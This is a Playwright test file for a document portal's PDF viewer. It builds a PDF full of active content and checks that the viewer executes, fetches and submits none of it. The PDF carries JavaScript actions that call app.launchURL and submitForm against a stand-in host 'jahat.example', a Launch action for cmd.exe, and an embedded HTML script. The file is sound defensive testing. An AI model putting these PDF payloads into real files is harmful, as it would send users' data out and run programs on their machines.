import { expect, test, type Page } from '@playwright/test'

import { begins, words } from '../../portal/names.ts'
import { FIRST_EXTRA, makePdf } from '../../portal/pdfMaker.ts'
import { demo } from '../../portal/people.ts'
import { signIn } from '../../portal/session.ts'

const ELSEWHERE = 'https://jahat.example'
const script = `<</S/JavaScript/JS(app.alert\\('jalan'\\); app.launchURL\\('${ELSEWHERE}/js', true\\); this.submitForm\\('${ELSEWHERE}/kirim'\\);)>>`
/** One tenth of the page for each, from the top. */
const area = (at: number) => `/Rect[0 ${841 - 84 * (at + 1)} 595 ${841 - 84 * at}]`
const link = (at: number, action: string) => `<</Type/Annot/Subtype/Link/Border[0 0 2]${area(at)}/A ${action}>>`
const field = FIRST_EXTRA
const attached = FIRST_EXTRA + 1

/** A PDF with scripts on opening, on a page and in a field, and with every kind of link to the outside. */
const activePdf = makePdf({
  sheets: [
    {
      content: 'BT /F1 24 Tf 72 700 Td (Halaman dengan isi aktif) Tj ET',
      entries: `/AA<</O ${script}>>/Annots[${[
        link(0, `<</S/URI/URI(${ELSEWHERE}/uri)>>`),
        link(1, script),
        link(2, '<</S/Launch/F(cmd.exe)>>'),
        link(3, '<</S/GoToR/F(lain.pdf)/D[0/Fit]/NewWindow true>>'),
        link(4, `<</S/SubmitForm/F<</FS/URL/F(${ELSEWHERE}/form)>>/Flags 4>>`),
        link(5, '<</S/GoToE/T<</R/C/N(isi.html)>>/D[0/Fit]>>'),
        `${field} 0 R`,
        `<</Type/Annot/Subtype/FileAttachment${area(7)}/FS ${attached} 0 R/Contents(isi.html)>>`,
      ].join('')}]`,
    },
  ],
  catalog: `/OpenAction ${script}/AA<</WP ${script}>>/Names<</JavaScript<</Names[(a) ${script}]>>/EmbeddedFiles<</Names[(isi.html) ${attached} 0 R]>>>>/AcroForm<</Fields[${field} 0 R]/NeedAppearances true>>/Outlines ${FIRST_EXTRA + 3} 0 R`,
  extra: [
    `<</Type/Annot/Subtype/Widget/FT/Tx/T(nama)/V(isi)${area(6)}/AA<</K ${script}/Fo ${script}/C ${script}>>>>`,
    `<</Type/Filespec/F(isi.html)/EF<</F ${FIRST_EXTRA + 2} 0 R>>>>`,
    { dict: '/Type/EmbeddedFile/Subtype/text#2Fhtml', bytes: Buffer.from('<script>top.jalan = 1</script>') },
    `<</Type/Outlines/First ${FIRST_EXTRA + 4} 0 R/Last ${FIRST_EXTRA + 4} 0 R/Count 1>>`,
    `<</Title(Ke luar)/Parent ${FIRST_EXTRA + 3} 0 R/A<</S/URI/URI(${ELSEWHERE}/daftar)>>>>`,
  ],
})

/** Records what the page does that a document's active content could cause. */
function watch(page: Page): string[] {
  const done: string[] = []
  page.on('dialog', (dialog) => {
    done.push(`dialog ${dialog.message()}`)
    void dialog.dismiss()
  })
  page.on('request', (request) => {
    const { origin, pathname } = new URL(request.url())
    if (request.url().startsWith('blob:') || request.url().startsWith('data:')) return
    if (origin !== new URL(page.url()).origin || /lain\.pdf|cmd\.exe|isi\.html/.test(pathname)) done.push(request.url())
  })
  page.on('download', (download) => void done.push(`download ${download.suggestedFilename()}`))
  page.on('framenavigated', (frame) => void done.push(`navigation to ${frame.url()}`))
  page.context().on('page', (opened) => void done.push(`window ${opened.url()}`))
  return done
}

test('a PDF with scripts, links, a form and an attachment is drawn; none of it runs, opens, is fetched or sent', async ({
  page,
}) => {
  await signIn(page, demo.sari)
  await page.goto('/user-document?kind=out&q=Tanda%20Terima')
  await page.getByRole('row').nth(1).getByRole('link').first().click()
  await expect(page.getByRole('heading', { level: 1 })).toHaveText(begins('Rincian Dokumen'))
  const id = new URL(page.url()).searchParams.get('id') ?? ''
  await page.route('**/api/getPDFDoc/**', (route) =>
    route.fulfill({ status: 200, contentType: 'application/pdf', body: activePdf }),
  )
  await page.route('**/api/getPDFIndex/**', (route) => route.fulfill({ status: 404, json: { err: 'NOT_FOUND' } }))
  await page.goto(`/viewer/pdf/${id}`)
  const done = watch(page)
  const sheet = page.locator('.viewer-sheet').first()
  await expect(sheet.locator('canvas')).toBeVisible({ timeout: 30_000 })
  await expect(sheet.locator('.viewer-text')).toContainText('Halaman dengan isi aktif')

  // Nothing in the page is clickable, focusable or editable, and a click has no effect.
  await expect(sheet.locator('a, button, input, textarea, select, iframe, embed, object, [tabindex]')).toHaveCount(0)
  const box = await sheet.boundingBox()
  if (!box) throw new Error('the page is not shown')
  for (let tenth = 0; tenth < 8; tenth += 1) {
    await sheet.click({ position: { x: box.width / 2, y: (box.height * (tenth + 0.5)) / 10 }, timeout: 10_000 })
    await page.keyboard.type('a')
  }
  await page.getByRole('button', { name: await words(page, 'viewer:pdf.panel') }).click()
  await page.getByRole('button', { name: begins('Daftar isi') }).click()
  await expect(page.getByRole('button', { name: 'Ke luar' })).toBeDisabled()
  await page.getByRole('button', { name: await words(page, 'viewer:pdf.text') }).click()
  await expect(page.locator('.viewer-reflow').first()).toContainText('Halaman dengan isi aktif')
  await expect(page.locator('.viewer-reflow a, iframe, embed, object')).toHaveCount(0)
  expect(done).toEqual([])
})
